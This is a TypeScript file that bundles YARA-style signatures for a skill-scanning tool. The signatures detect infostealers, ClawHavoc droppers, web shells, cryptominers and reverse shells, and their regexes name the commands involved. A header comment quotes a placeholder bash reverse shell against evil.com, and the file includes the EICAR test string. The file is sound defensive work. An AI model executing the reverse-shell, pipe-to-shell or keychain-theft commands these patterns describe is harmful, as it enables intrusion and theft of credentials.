// The bundled signature set, kept as TypeScript so the build ships it without copying data files.
// Each entry is one rule file; `meta.category` gives the public id (see classifySignature in index.ts):
//   malware → YR1, webshell → YR2, cryptominer → YR3, hack_tool / exploit → YR4.
//
// Licence and provenance: every rule below is our own text, written for SkillSpector (Apache-2.0) from
// public descriptions of the techniques; no third-party rule text is copied. Each rule's comment names its
// public source. Sources used:
//   [eicar]    EICAR test file definition, https://www.eicar.org/download-anti-malware-testfile/
//   [revshell] widely documented reverse-shell one-liners (bash /dev/tcp, netcat -e, mkfifo, socat, Python
//              socket + dup2, PowerShell TCPClient), e.g. the MITRE ATT&CK T1059 pages.
//   [miner]    the stratum mining protocol URL scheme and XMRig's documented config keys
//              (https://xmrig.com/docs/miner/config).
//   [webshell] MITRE ATT&CK T1505.003 (Web Shell) and public write-ups of PHP/JSP/ASPX/Python shells.
//   [stealer]  public infostealer and Atomic Stealer (AMOS) analyses: browser credential stores, wallet
//              extension ids and folders, Telegram bot exfiltration, osascript password dialogs validated
//              with `dscl . -authonly`, keychain dumps.
//   [clawhavoc] the 2026 ClawHavoc campaign against ClawHub skills (fake prerequisites such as
//              openclaw-agent.zip / openclaw-setup.exe, password-protected ZIPs with the password in SKILL.md,
//              glot.io / pastebin loaders, base64 and raw-IP `curl | bash` droppers, AMOS payloads):
//              https://eastondev.com/blog/en/posts/ai/20260205-openclaw-skill-security,
//              https://kai-familiar.github.io/clawhub-security.html, https://shoofly.dev/blog/clawhavoc,
//              https://www.clawagora.com/en/blog/clawagora-security-vetting (indicator facts only).
//
// Documentation placeholders: security guides quote complete one-liners against attacker.com, evil.com,
// example hosts, 127.0.0.1 or documentation IP ranges. Rules that take a host count those placeholder
// forms separately and fire only when the file holds more working forms than placeholder ones
// (`#working > #placeholder`), so a guide quoting `bash -i >& /dev/tcp/evil.com/4444 0>&1` stays quiet
// while the same line against a real host fires.
//
// Design: signatures run on raw bytes with no notion of documentation, so each rule asks for the working
// shape of the technique, not its name. A README that says "bash can open /dev/tcp sockets" stays quiet;
// a file that contains the actual one-liner `bash -i >& /dev/tcp/HOST/PORT` fires, wherever it sits (a
// security guide quoting the full one-liner fires too: lowering that by place is the caller's job, through
// the usual calibration and triage, not the signature's).
import type { RuleSource } from './engine.js';

const MALWARE = String.raw`
// YR1: malware, infostealers and malware test artefacts.

// [eicar]
rule eicar_test_file : malware test
{
  meta:
    category = "malware"
    severity = "CRITICAL"
    confidence = "0.95"
    description = "EICAR anti-virus test string: harmless itself, but a skill has no reason to ship it and it is the standard probe of whether a scanner blocks malware"
  strings:
    $eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
  condition:
    $eicar
}

// [stealer]
rule info_stealer_browser_and_wallet : malware stealer
{
  meta:
    category = "malware"
    severity = "CRITICAL"
    confidence = "0.85"
    description = "Infostealer profile: browser credential stores and cryptocurrency wallet locations referenced together in one file"
  strings:
    $browser_chrome = /(Google|Microsoft|BraveSoftware)[\\\/](Chrome|Edge|Brave-Browser)[\\\/]User Data/ nocase
    $browser_login = "Login Data" fullword
    $browser_ff_logins = "logins.json" fullword
    $browser_ff_key = "key4.db" fullword
    $browser_ff = /Mozilla[\\\/]Firefox[\\\/]Profiles/ nocase
    $wallet_dat = "wallet.dat" fullword
    $wallet_exodus = /Exodus[\\\/]exodus\.wallet/ nocase
    $wallet_electrum = /Electrum[\\\/]wallets/ nocase
    $wallet_metamask = "nkbihfbeogaeaoehlefnkodbefgpgknn"
    $wallet_atomic = /atomic[\\\/]Local Storage/ nocase
    $wallet_solflare = "bhhhlbepdkbapadjdnnojkbgioiodbic"
  condition:
    2 of ($browser*) and any of ($wallet*)
}

// [stealer]
rule telegram_bot_exfiltration : malware exfiltration
{
  meta:
    category = "malware"
    severity = "CRITICAL"
    confidence = "0.85"
    description = "A hard-coded Telegram bot token used to upload files (sendDocument): a common infostealer exfiltration channel"
  strings:
    $bot_url = /api\.telegram\.org\/bot[0-9]{6,10}:[A-Za-z0-9_-]+\/send(Document|Photo)/
    $bot_token = /[0-9]{8,10}:AA[A-Za-z0-9_-]+/
    $send_doc = "sendDocument"
  condition:
    $bot_url or ($bot_token and $send_doc)
}

// [stealer] Atomic Stealer (AMOS) and its kin ask for the login password in a fake system dialog
// (osascript, hidden answer) and check it with dscl before unlocking the keychain.
rule macos_fake_password_dialog : malware stealer amos
{
  meta:
    category = "malware"
    severity = "CRITICAL"
    confidence = "0.9"
    description = "macOS password phishing: an osascript dialog with a hidden answer that asks for the password, or checks the answer with dscl -authonly (Atomic Stealer / AMOS technique)"
  strings:
    $osascript = "osascript" nocase
    $dialog = /display dialog[^\n]*default answer[^\n]*with hidden answer/ nocase
    $password = /password/ nocase
    $dscl_auth = /dscl\s+(\.|\/Local\/Default)\s+-authonly\s/ nocase
  condition:
    $osascript and $dialog and ($password or $dscl_auth)
}

// [stealer] Every secret in the keychain printed in the clear, or the keychain database shipped out.
rule macos_keychain_theft : malware stealer
{
  meta:
    category = "malware"
    severity = "CRITICAL"
    confidence = "0.9"
    description = "macOS keychain theft: dumping every keychain item with its secret (security dump-keychain -d), or the login keychain database together with an upload"
  strings:
    $dump_all = /security\s+dump-keychain\s+(-[a-z]+\s+)*-[a-z]*d/
    $keychain_db = /Library\/Keychains\/login\.keychain(-db)?/
    $upload = /curl\s[^\n]*(-F|--form|--data-binary|-T|--upload-file)\s/
  condition:
    $dump_all or ($keychain_db and $upload)
}
`;

const CAMPAIGN = String.raw`
// YR1: droppers and loaders of the ClawHavoc campaign against skill registries [clawhavoc]. Each rule wants
// the loader itself (a command that fetches and runs, a link to the payload), not a report about it.

rule clawhavoc_fake_prerequisite_download : malware clawhavoc
{
  meta:
    category = "malware"
    severity = "CRITICAL"
    confidence = "0.9"
    description = "ClawHavoc fake prerequisite: a download of the openclaw-agent / openclaw-setup payload the campaign's skills told users and agents to install first"
  strings:
    $fetch = /(curl|wget|iwr|Invoke-WebRequest|Start-BitsTransfer)\s[^\n]*openclaw-(agent|setup)[a-z0-9_.-]*\.(zip|exe|dmg|pkg)/ nocase
    $link = /https?:\/\/[^\s"'()<>]*\/openclaw-(agent|setup)[a-z0-9_.-]*\.(zip|exe|dmg|pkg)/ nocase
  condition:
    any of them
}

rule clawhavoc_password_zip_lure : malware clawhavoc
{
  meta:
    category = "malware"
    severity = "CRITICAL"
    confidence = "0.85"
    description = "Encrypted-archive lure: a ZIP download link with the archive password 'openclaw' given in the same text (the password keeps scanners out of the payload)"
  strings:
    $zip_url = /https?:\/\/[^\s"'()<>]+\.zip/ nocase
    $password = /(password|passcode|pass|pwd)[^\n]{0,3}(is|:|=)?\s*[\x60'"*]*openclaw\b/ nocase
  condition:
    $zip_url and $password
}

rule paste_site_loader : malware clawhavoc loader
{
  meta:
    category = "malware"
    severity = "CRITICAL"
    confidence = "0.85"
    description = "A script fetched from a paste site (glot.io, pastebin, rentry, …) and piped straight into a shell or PowerShell"
  strings:
    $sh = /(curl|wget)\s[^\n|]*https?:\/\/(www\.)?(glot\.io|pastebin\.com|paste\.ee|rentry\.(co|org)|hastebin\.com|dpaste\.(com|org)|pastebin\.pl|termbin\.com|paste\.c-net\.org|ghostbin\.[a-z]+)\/[^\s|]*[^\n|]*\|\s*(sudo\s+)?(ba|z|da)?sh\b/ nocase
    $ps = /(iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)[^\n|]*https?:\/\/(www\.)?(glot\.io|pastebin\.com|paste\.ee|rentry\.(co|org)|hastebin\.com)\/[^\n|]*\|\s*(iex|Invoke-Expression)\b/ nocase
  condition:
    any of them
}

rule raw_ip_pipe_to_shell : malware clawhavoc loader
{
  meta:
    category = "malware"
    severity = "CRITICAL"
    confidence = "0.85"
    description = "A script downloaded from a bare public IP address and piped into a shell: the dropper shape of the ClawHavoc / AMOS skills (a local or documentation address does not count)"
  strings:
    $fetch = /(curl|wget)\s[^\n|]*https?:\/\/[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}(:[0-9]+)?\/[^\n|]*\|\s*(sudo\s+)?(ba|z|da)?sh\b/ nocase
    $fetch_local = /(curl|wget)\s[^\n|]*https?:\/\/(127\.|10\.|0\.0\.0\.0|192\.168\.|169\.254\.|172\.(1[6-9]|2[0-9]|3[01])\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4)[^\n|]*\|\s*(sudo\s+)?(ba|z|da)?sh\b/ nocase
  condition:
    #fetch > #fetch_local
}

rule base64_pipe_to_shell : malware clawhavoc loader
{
  meta:
    category = "malware"
    severity = "CRITICAL"
    confidence = "0.85"
    description = "An inline base64 blob decoded and piped straight into a shell (echo … | base64 -d | bash), the obfuscated loader ClawHavoc skills used to fetch the AMOS payload"
  strings:
    $decode = /echo\s+(-n\s+)?['"]?[A-Za-z0-9+\/]{16}[A-Za-z0-9+\/]*={0,2}['"]?\s*\|\s*base64\s+(-d|-D|--decode)\s*\|\s*(sudo\s+)?(ba|z|da)?sh\b/
    $decode_rev = /(ba|z|da)?sh\s+-c\s+["']?\$\(\s*echo\s+(-n\s+)?['"]?[A-Za-z0-9+\/]{16}[A-Za-z0-9+\/]*={0,2}['"]?\s*\|\s*base64\s+(-d|-D|--decode)/
  condition:
    any of them
}
`;

const WEBSHELL = String.raw`
// YR2: web shells [webshell]. Each wants request input reaching code or command execution in a page.

rule php_webshell_request_eval : webshell php
{
  meta:
    category = "webshell"
    severity = "CRITICAL"
    confidence = "0.9"
    description = "PHP web shell: request input (POST/GET/REQUEST/COOKIE) passed to eval, assert or a shell function inside a PHP file"
  strings:
    $php_open = "<?php" nocase
    $php_short = "<?="
    $exec_request = /(eval|assert|system|passthru|shell_exec|exec|popen|proc_open)\s*\(\s*(base64_decode\s*\(\s*|gzinflate\s*\(\s*|str_rot13\s*\(\s*|stripslashes\s*\(\s*)*\$_(POST|GET|REQUEST|COOKIE)/ nocase
    $backtick_request = /\x60\s*\$_(POST|GET|REQUEST)\[/
  condition:
    ($php_open or $php_short) and ($exec_request or $backtick_request)
}

rule jsp_webshell_request_exec : webshell jsp
{
  meta:
    category = "webshell"
    severity = "CRITICAL"
    confidence = "0.9"
    description = "JSP web shell: a request parameter passed to Runtime.exec or ProcessBuilder inside a JSP page"
  strings:
    $jsp_open = "<%"
    $runtime_param = /Runtime\.getRuntime\(\)\.exec\(\s*request\.getParameter\(/
    $builder_param = /new\s+ProcessBuilder\(\s*(new\s+String\[\]\s*\{[^}]*)?request\.getParameter\(/
  condition:
    $jsp_open and ($runtime_param or $builder_param)
}

rule aspx_webshell_request_exec : webshell aspx
{
  meta:
    category = "webshell"
    severity = "CRITICAL"
    confidence = "0.9"
    description = "ASPX web shell: an ASP.NET page that starts a process with arguments taken from Request (Form, QueryString, Params)"
  strings:
    $page = /<%@\s*Page\s[^\n]*Language\s*=\s*["']?(C#|csharp|VB|JScript)/ nocase
    $start_request = /Process\.Start\(\s*["'][^"'\n]*["']\s*,\s*[^\n)]*Request(\.Form|\.QueryString|\.Params)?\[/ nocase
    $args_request = /\.Arguments\s*=\s*[^\n;]*Request(\.Form|\.QueryString|\.Params)?\[/ nocase
    $eval_request = /eval\(\s*Request(\.Form|\.Item)?\[/ nocase
  condition:
    $page and ($start_request or $args_request or $eval_request)
}

rule python_webshell_request_exec : webshell python
{
  meta:
    category = "webshell"
    severity = "CRITICAL"
    confidence = "0.85"
    description = "Python web shell: a web route or handler that passes an HTTP request parameter (Flask/Django request.args, form, GET, POST) straight to os.system, os.popen or subprocess"
  strings:
    $exec_request = /(os\.system|os\.popen|subprocess\.(check_output|run|Popen|call|getoutput|getstatusoutput))\(\s*request\.(args|form|values|GET|POST|data|json)(\.get\(|\[)/
    $route = /@[a-z_]+\.(route|get|post)\(\s*["']\//
    $handler = /def\s+do_(GET|POST)\(\s*self/
    $django = /def\s+[a-z_]+\(\s*request\s*[,)]/
  condition:
    $exec_request and ($route or $handler or $django)
}
`;

const MINER = String.raw`
// YR3: cryptocurrency miners [miner].

rule crypto_stratum_url : cryptominer
{
  meta:
    category = "cryptominer"
    severity = "HIGH"
    confidence = "0.8"
    description = "A stratum mining-pool URL with host and port (stratum+tcp/ssl/tls://host:port)"
  strings:
    $stratum = /stratum\+(tcp|ssl|tls):\/\/[a-z0-9._-]+:[0-9]+/ nocase
  condition:
    $stratum
}

rule crypto_xmrig_config : cryptominer
{
  meta:
    category = "cryptominer"
    severity = "HIGH"
    confidence = "0.85"
    description = "XMRig-style miner configuration: donate-level and pools keys with a RandomX algorithm or wallet user"
  strings:
    $donate = "\"donate-level\""
    $pools = "\"pools\""
    $algo = /"algo"\s*:\s*"(rx\/0|randomx|cn\/r|rx\/wow)"/ nocase
    $coin = /"coin"\s*:\s*"monero"/ nocase
    $user = /"user"\s*:\s*"4[0-9AB][1-9A-HJ-NP-Za-km-z]+"/
  condition:
    $donate and $pools and ($algo or $coin or $user)
}

rule crypto_miner_command_line : cryptominer
{
  meta:
    category = "cryptominer"
    severity = "HIGH"
    confidence = "0.85"
    description = "A miner started with a pool and a wallet on its command line (xmrig, cpuminer, minerd with -o/--url and -u/--user)"
  strings:
    $cmd = /(xmrig|cpuminer|minerd|xmr-stak)(\.exe)?[^\n]*\s(-o|--url[= ])\s*[^\s]+[^\n]*\s(-u|--user[= ])/ nocase
  condition:
    $cmd
}
`;

const HACK_TOOL = String.raw`
// YR4: offensive tooling, here reverse shells [revshell]. Each rule wants the working one-liner against a
// real host; the same line against a documentation placeholder (see the header) is counted apart.

rule reverse_shell_bash_dev_tcp : hack_tool reverse_shell
{
  meta:
    category = "hack_tool"
    severity = "HIGH"
    confidence = "0.85"
    description = "Bash reverse shell: an interactive shell redirected to a /dev/tcp/HOST/PORT socket"
  strings:
    $interactive = /(ba)?sh\s+-i\s*[0-9]?>&\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]+/
    $interactive_ph = /(ba)?sh\s+-i\s*[0-9]?>&\s*\/dev\/(tcp|udp)\/(attacker|evil|example|hacker|malicious|your[-_.]?(ip|host|server|domain|addr)|lhost|rhost|target[-_]?(ip|host)|c2[-_.]?(server|host)|localhost|127\.0\.0\.1|0\.0\.0\.0|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4|x\.x\.x\.x|[<{$%\[])/ nocase
    $exec_fd = /exec\s+[0-9]+<>\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]+/
    $exec_fd_ph = /exec\s+[0-9]+<>\s*\/dev\/(tcp|udp)\/(attacker|evil|example|hacker|malicious|your[-_.]?(ip|host|server|domain|addr)|lhost|rhost|target[-_]?(ip|host)|c2[-_.]?(server|host)|localhost|127\.0\.0\.1|0\.0\.0\.0|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4|x\.x\.x\.x|[<{$%\[])/ nocase
    $redirect = /\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]+\s+0>&1/
    $redirect_ph = /\/dev\/(tcp|udp)\/(attacker|evil|example|hacker|malicious|your[-_.]?(ip|host|server|domain|addr)|lhost|rhost|target[-_]?(ip|host)|c2[-_.]?(server|host)|localhost|127\.0\.0\.1|0\.0\.0\.0|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4|x\.x\.x\.x|[<{$%\[])[^\/\s]*\/[0-9]+\s+0>&1/ nocase
  condition:
    #interactive > #interactive_ph or #exec_fd > #exec_fd_ph or #redirect > #redirect_ph
}

rule reverse_shell_netcat : hack_tool reverse_shell
{
  meta:
    category = "hack_tool"
    severity = "HIGH"
    confidence = "0.85"
    description = "Netcat reverse or bind shell: nc/ncat executing a shell (-e /bin/sh, -e cmd.exe) or a mkfifo loop piping a shell through nc"
  strings:
    $nc_exec = /\b(nc|ncat|netcat)(\.traditional|\.openbsd|\.exe)?\s[^\n]*-[a-z]*[ec]\s*["']?(\/bin\/(ba|z|da)?sh|cmd(\.exe)?|powershell)/ nocase
    $nc_exec_ph = /\b(nc|ncat|netcat)(\.traditional|\.openbsd|\.exe)?\s([^\n]*\s(attacker|evil|example|hacker|malicious|your[-_.]?(ip|host|server|domain|addr)|lhost|rhost|target[-_]?(ip|host)|c2[-_.]?(server|host)|localhost|127\.0\.0\.1|0\.0\.0\.0|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4|x\.x\.x\.x|[<{$%\[])[^\n]*-[a-z]*[ec]\s*["']?(\/bin\/(ba|z|da)?sh|cmd(\.exe)?|powershell)|[^\n]*-[a-z]*[ec]\s*["']?(\/bin\/(ba|z|da)?sh|cmd(\.exe)?|powershell)[^\n]*\s(attacker|evil|example|hacker|malicious|your[-_.]?(ip|host|server|domain|addr)|lhost|rhost|target[-_]?(ip|host)|c2[-_.]?(server|host)|localhost|127\.0\.0\.1|0\.0\.0\.0|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4|x\.x\.x\.x|[<{$%\[]))/ nocase
    $fifo = /mkfifo\s[^\n]*\|\s*(\/bin\/)?(ba)?sh\s+-i[^\n]*\|\s*(nc|ncat|netcat)\s/
    $fifo_ph = /mkfifo\s[^\n]*\|\s*(\/bin\/)?(ba)?sh\s+-i[^\n]*\|\s*(nc|ncat|netcat)\s+(-[a-z]+\s+)*(attacker|evil|example|hacker|malicious|your[-_.]?(ip|host|server|domain|addr)|lhost|rhost|target[-_]?(ip|host)|c2[-_.]?(server|host)|localhost|127\.0\.0\.1|0\.0\.0\.0|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4|x\.x\.x\.x|[<{$%\[])/ nocase
  condition:
    #nc_exec > #nc_exec_ph or #fifo > #fifo_ph
}

rule reverse_shell_socat : hack_tool reverse_shell
{
  meta:
    category = "hack_tool"
    severity = "HIGH"
    confidence = "0.85"
    description = "Socat reverse shell: a shell process (exec:/system:) joined to a TCP connection to HOST:PORT"
  strings:
    $exec_tcp = /socat\s[^\n]*(exec|system):["']?(\/bin\/)?(ba|z)?sh[^\n]*\stcp[46]?(-connect)?:[^\s:]+:[0-9]+/ nocase
    $tcp_exec = /socat\s[^\n]*\stcp[46]?(-connect)?:[^\s:]+:[0-9]+\s[^\n]*(exec|system):["']?(\/bin\/)?(ba|z)?sh/ nocase
    $ph = /socat\s[^\n]*\stcp[46]?(-connect)?:(attacker|evil|example|hacker|malicious|your[-_.]?(ip|host|server|domain|addr)|lhost|rhost|target[-_]?(ip|host)|c2[-_.]?(server|host)|localhost|127\.0\.0\.1|0\.0\.0\.0|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4|x\.x\.x\.x|[<{$%\[])/ nocase
  condition:
    #exec_tcp > #ph or #tcp_exec > #ph
}

rule reverse_shell_python : hack_tool reverse_shell
{
  meta:
    category = "hack_tool"
    severity = "HIGH"
    confidence = "0.85"
    description = "Python reverse shell: a socket connected out, its descriptor duplicated onto stdin/stdout, then a shell spawned"
  strings:
    $connect = ".connect(("
    $connect_ph = /\.connect\(\(\s*["'](attacker|evil|example|hacker|malicious|your[-_.]?(ip|host|server|domain|addr)|lhost|rhost|target[-_]?(ip|host)|c2[-_.]?(server|host)|localhost|127\.0\.0\.1|0\.0\.0\.0|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4|x\.x\.x\.x|[<{$%\[])/ nocase
    $dup2 = /os\.dup2\(\s*[a-z_]+\.fileno\(\)\s*,\s*[012]\s*\)/
    $pty = /pty\.spawn\(\s*["'](\/bin\/)?(ba|z)?sh["']/
    $call_sh = /subprocess\.call\(\s*\[\s*["'](\/bin\/)?(ba|z)?sh["']\s*,\s*["']-i["']/
  condition:
    #connect > #connect_ph and $dup2 and ($pty or $call_sh)
}

rule reverse_shell_perl : hack_tool reverse_shell
{
  meta:
    category = "hack_tool"
    severity = "HIGH"
    confidence = "0.85"
    description = "Perl reverse shell: a socket connected out, STDIN/STDOUT reopened onto it, then a shell executed"
  strings:
    $socket = /socket\(\s*S\s*,\s*PF_INET/
    $reopen = /open\(\s*STD(IN|OUT)\s*,\s*["']>&S["']\s*\)/
    $exec_sh = /exec\(\s*["'](\/bin\/)?(ba)?sh\s+-i["']\s*\)/
    $ph = /inet_aton\(\s*["'](attacker|evil|example|hacker|malicious|your[-_.]?(ip|host|server|domain|addr)|lhost|rhost|target[-_]?(ip|host)|c2[-_.]?(server|host)|localhost|127\.0\.0\.1|0\.0\.0\.0|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4|x\.x\.x\.x|[<{$%\[])/ nocase
  condition:
    $socket and $reopen and $exec_sh and not $ph
}

rule reverse_shell_powershell : hack_tool reverse_shell
{
  meta:
    category = "hack_tool"
    severity = "HIGH"
    confidence = "0.85"
    description = "PowerShell reverse shell: a TCPClient stream whose received bytes are run with Invoke-Expression and the output written back"
  strings:
    $tcp = "Net.Sockets.TCPClient" nocase
    $tcp_ph = /Net\.Sockets\.TCPClient\(\s*["'](attacker|evil|example|hacker|malicious|your[-_.]?(ip|host|server|domain|addr)|lhost|rhost|target[-_]?(ip|host)|c2[-_.]?(server|host)|localhost|127\.0\.0\.1|0\.0\.0\.0|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|1\.2\.3\.4|x\.x\.x\.x|[<{$%\[])/ nocase
    $stream = ".GetStream()" nocase
    $iex = /\b(iex|Invoke-Expression)\b/ nocase
    $read = ".Read(" nocase
  condition:
    #tcp > #tcp_ph and $stream and $iex and $read
}
`;

/** The bundled rule files, in a fixed order. */
export const BUNDLED_SIGNATURES: readonly RuleSource[] = [
  { file: 'bundled/malware.yar', text: MALWARE },
  { file: 'bundled/campaigns.yar', text: CAMPAIGN },
  { file: 'bundled/webshell.yar', text: WEBSHELL },
  { file: 'bundled/cryptominer.yar', text: MINER },
  { file: 'bundled/hack_tool.yar', text: HACK_TOOL },
];
